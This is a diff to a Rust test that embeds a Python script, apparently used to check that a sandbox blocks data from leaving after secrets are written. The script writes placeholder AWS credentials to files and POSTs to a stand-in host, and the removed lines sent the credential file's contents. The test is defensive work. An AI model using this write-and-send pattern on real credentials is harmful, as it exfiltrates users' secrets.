@@ -149,22 +149,28 @@ fn clients(user: User) {
     world.ok(&["verify"]);
 }
 
-/// One connection, kept open: what is written between two requests is judged before the second.
-/// The file stays open: on a slow machine a closed one is put back before the second is made, and what was read of it goes out.
+/// One connection, kept open: what is written between two requests is judged before the second. A machine that is slow enough
+/// puts a file back before the request that follows it is made, which then finds nothing to stop it: so it is tried until one is
+/// in time, and none may pass whose file was not put back.
 fn barrier(user: User) {
     let (world, server, _outside) = scene(user);
     let program = format!(
-        "import http.client, ssl, time\n\
+        "import http.client, ssl\n\
          c = http.client.HTTPSConnection('host.internal', {}, context=ssl.create_default_context())\n\
          c.request('GET', '/first'); print(c.getresponse().read().decode())\n\
-         f = open('leak.txt', 'w'); f.write('aws_access_key_id = AKIA' + 'IOSFODNN7EXAMPLA' + chr(10) + 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ' + chr(10)); f.flush()\n\
-         c.request('POST', '/second', open('leak.txt').read() if __import__('os').path.exists('leak.txt') else '')\n\
-         r = c.getresponse(); print('second', r.status, r.read().decode())\n",
+         leak = 'aws_access_key_id = AKIA' + 'IOSFODNN7EXAMPLA' + chr(10) + 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ' + chr(10)\n\
+         for n in range(30):\n\
+         \x20 f = open('leak%d.txt' % n, 'w'); f.write(leak); f.flush()\n\
+         \x20 c.request('POST', '/second', 'x')\n\
+         \x20 r = c.getresponse(); print('second', r.status, r.read().decode())\n\
+         \x20 if r.status == 403: break\n",
         server.port
     );
     std::fs::write(world.repo.workspace().join("leak.py"), program).unwrap();
     let said = run(&world, &server, "/usr/bin/python3 leak.py");
-    assert!(said.contains("GET /first 0") && said.contains("second 403") && !said.contains("POST /second"), "{said}");
+    assert!(said.contains("GET /first 0") && said.contains("second 403"), "{said}");
+    let put_back = world.log().iter().filter(|e| e["body"]["act"] == "put-back").count();
+    assert!(said.matches("POST /second").count() < put_back, "{said}");
 }
 
 const SECRET: &str = "s3cret-of-the-user";
